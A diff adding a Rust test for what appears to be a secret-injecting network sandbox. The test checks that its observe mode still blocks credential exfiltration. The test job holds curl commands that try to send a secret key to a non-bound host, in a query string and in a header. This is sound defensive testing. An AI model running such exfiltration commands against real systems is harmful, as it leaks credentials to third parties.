@@ -231,3 +231,62 @@ name = "api.vendor.test"
         .run();
     assert_eq!(out.code(), 0, "{out:?}");
 }
+
+#[test]
+fn observe_mode_still_refuses_exfiltration_and_injects_secrets_only_for_their_host() {
+    let w = VendorWorld::new();
+    let key = scratch("observe-key");
+    std::fs::write(&key, "sk_live_OBSERVEKEY0123456789abcdef\n").expect("key");
+    std::fs::set_permissions(&key, std::os::unix::fs::PermissionsExt::from_mode(0o600))
+        .expect("chmod key");
+    let policy = format!(
+        "[[secret]]\nname = \"VENDOR_KEY\"\nfrom = \"file:{}\"\nhosts = [\"api.vendor.test\"]\nheader = \"Authorization\"\nformat = \"Bearer {{}}\"\n\n[[host]]\nname = \"api.vendor.test\"\n  [[host.rule]]\n  method = \"GET\"\n  path = \"/v1/me\"\n  action = \"allow\"\n",
+        key.display()
+    );
+    let job = r#"
+curl -sS -m 20 -o /dev/null -w '%{http_code}\n' https://open.vendor.test/v1/anything
+curl -sS -m 20 -o /dev/null -w '%{http_code}\n' "https://open.vendor.test/leak?k=$VENDOR_KEY"
+curl -sS -m 20 -o /dev/null -w '%{http_code}\n' -H "X-Key: $VENDOR_KEY" https://open.vendor.test/header
+exit 0
+"#;
+    let report = scratch("observe-exfil.json");
+    let out = w
+        .launch(&policy, &["/bin/sh", "-c", job])
+        .flag("--mode")
+        .flag("observe")
+        .flag("--ci")
+        .flag("--report")
+        .flag(&report)
+        .run();
+    out.assert_clean();
+    assert_eq!(
+        out.stdout.lines().collect::<Vec<_>>(),
+        ["200", "403", "403"],
+        "an unlisted host is let through, a placeholder headed there is not: {out:?}"
+    );
+    assert_eq!(
+        out.code(),
+        80,
+        "exfiltration fails the job in observe mode too: {out:?}"
+    );
+    let r = read_json(&report);
+    assert_eq!(
+        r["exfiltration_attempts"].as_array().map(Vec::len),
+        Some(2),
+        "{r:#}"
+    );
+    let seen = w.vendor.seen();
+    assert!(seen.iter().any(|s| s.path == "/v1/anything"), "{seen:?}");
+    assert!(
+        !seen
+            .iter()
+            .any(|s| s.path == "/leak" || s.path == "/header"),
+        "nothing carrying the placeholder left: {seen:?}"
+    );
+    assert!(
+        !seen
+            .iter()
+            .any(|s| format!("{:?}", s.headers).contains("OBSERVEKEY")),
+        "the real key went only where it is bound: {seen:?}"
+    );
+}
